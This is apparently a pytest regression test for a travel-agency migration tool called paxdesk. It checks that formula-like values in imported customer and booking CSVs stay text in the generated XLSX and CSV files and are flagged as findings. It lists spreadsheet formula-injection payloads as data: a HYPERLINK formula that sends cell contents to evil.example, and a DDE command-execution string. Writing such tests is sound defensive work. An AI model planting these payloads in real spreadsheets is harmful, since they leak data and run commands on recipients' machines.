"""No cell of any spreadsheet paxdesk writes is a formula (CONTRACT §4.3, §6.3; issue 27): a legacy export's
``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0`` stays text in every XLSX (openpyxl's ``data_type``), gets a leading
``'`` in every CSV and a finding; numbers, dates and phone numbers keep their sign."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.helpers import run_paxdesk

EVIL = ['=HYPERLINK("http://evil.example/?"&C3&D3,"Klick")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)",
        "-2+3+cmd|' /C calc'!A0"]


def test_formula_like_values_stay_text_in_every_file_of_the_package(tmp_path):
    lines = ["Kundennummer;Nachname;Vorname;Ort;Telefon;Kürzel;Werbesperre"]
    for i, evil in enumerate(EVIL):
        lines.append(f"K{i};{evil.replace(';', ',')};Anna;{evil.replace(';', ',')};030 1234567;{evil[:6]};ja")
    lines.append("K9;Weiß;Jördis;Berlin;+49 30 1234567;AM;nein")
    customers = tmp_path / "kunden.csv"
    customers.write_text("\n".join(lines) + "\n", encoding="utf-8")
    bookings = tmp_path / "v.csv"
    bookings.write_text("Vorgangsnummer;Kundennummer;Preis;Ziel\nV1;K0;-120,50;=1+1\nV2;K9;99,00;Kreta\n",
                        encoding="utf-8")
    out = tmp_path / "paket"
    result = run_paxdesk("migrate", "prepare", "--customers", str(customers), "--bookings", str(bookings),
                         "--out", str(out))
    assert result.returncode == 0, result.stderr
    for name in ("marketing-locks.xlsx", "findings.xlsx", "duplicates.xlsx"):
        book = load_workbook(out / name)
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
    texts = []
    for name in ("customers.csv", "bookings.csv", "user-mapping.csv"):
        rows = list(csv.reader(io.StringIO((out / name).read_text(encoding="utf-8-sig")), delimiter=";"))
        cells = [c for row in rows[1:] for c in row]
        texts += cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@") and not c[1:].replace(" ", "").isdigit()], name
    assert "'=cmd|' /C calc'!A0" in texts and ("-120.50" in texts or "-120,50" in texts)  # a price keeps its sign
    assert "+49301234567" in texts  # a phone number keeps its +
    findings = load_workbook(out / "findings.xlsx").active
    flagged = [r for r in findings.iter_rows(values_only=True) if any(isinstance(v, str) and "Formel" in v for v in r)]
    assert len(flagged) >= len(EVIL)  # each one said, with its row and column
